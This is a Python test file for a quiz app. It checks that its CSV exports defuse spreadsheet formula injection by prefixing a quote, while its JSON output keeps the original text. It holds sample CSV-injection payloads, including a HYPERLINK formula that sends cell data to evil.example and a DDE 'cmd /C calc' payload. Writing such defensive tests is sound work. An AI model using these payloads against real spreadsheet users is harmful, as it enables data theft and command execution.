"""Every CSV quizapp writes is safe to open in a spreadsheet (OWASP CSV injection rule);
JSON keeps the exact text."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest

from quizapp.cli import main
from quizapp.core.csv_cells import checked_path, safe_row, spreadsheet_safe
from quizapp.core.model import Bank, ShortAnswer
from quizapp.core.store import Store
from quizapp.gui.teacher_screen import write_csv

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_ANSWERS = ("+1", "-2", "@x", "\tX", "\rY", "=1+1")
BANK = Bank(
    id="=cmd|' /C calc'!A0",
    title="Hostile",
    questions=tuple(
        ShortAnswer(id=f"q{n}", prompt="?", answers=("1",)) for n in range(len(HOSTILE_ANSWERS))
    ),
)


def test_formula_like_texts_get_a_leading_quote_and_numbers_stay_numbers():
    for text in (HOSTILE_NAME, *HOSTILE_ANSWERS):
        assert spreadsheet_safe(text) == "'" + text
    for text in ("Ann", "1+1", " =x", "", "Chloé"):
        assert spreadsheet_safe(text) == text
    assert safe_row([-0.25, -3, None, "-3"]) == [-0.25, -3, "", "'-3"]


def test_a_flag_is_not_a_path():
    for bad in (False, True, 0, None):
        with pytest.raises(TypeError):
            checked_path(bad)


@pytest.fixture
def data_dir(tmp_path):
    store = Store.open(tmp_path)
    learner = store.create_learner(HOSTILE_NAME)
    sid = store.start_session(learner.id, BANK, "quiz")
    t0 = datetime(2026, 2, 1, 9, 30, tzinfo=UTC)
    for n, (question, answer) in enumerate(zip(BANK.questions, HOSTILE_ANSWERS, strict=True)):
        store.record_answer(
            sid, question, response=answer, correct=False, credit=0, seconds=1,
            now=t0 + timedelta(seconds=n),
        )
    store.finish_session(sid, 0.0)
    store.close()
    return tmp_path


def test_results_csv_neutralises_hostile_cells(data_dir, capsys):
    assert main(["results", "--data-dir", str(data_dir)]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    assert len(rows) == len(HOSTILE_ANSWERS)
    assert {r["learner"] for r in rows} == {"'" + HOSTILE_NAME}
    assert {r["bank_id"] for r in rows} == {"'" + BANK.id}
    assert sorted(r["response"] for r in rows) == sorted("'" + a for a in HOSTILE_ANSWERS)
    for row in rows:  # a leading quote on every cell a spreadsheet would run
        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_results_json_keeps_the_exact_text(data_dir, capsys):
    assert main(["results", "--data-dir", str(data_dir), "--format", "json"]) == 0
    records = json.loads(capsys.readouterr().out)
    assert {r["learner"] for r in records} == {HOSTILE_NAME}
    assert sorted(r["response"] for r in records) == sorted(HOSTILE_ANSWERS)


def test_teacher_csv_neutralises_hostile_cells(tmp_path):
    path = tmp_path / "t.csv"
    write_csv(path, ["Learner", "Discrimination"], [[HOSTILE_NAME, -0.25], ["@x", 0.5]])
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows == [["Learner", "Discrimination"], ["'" + HOSTILE_NAME, "-0.25"], ["'@x", "0.5"]]
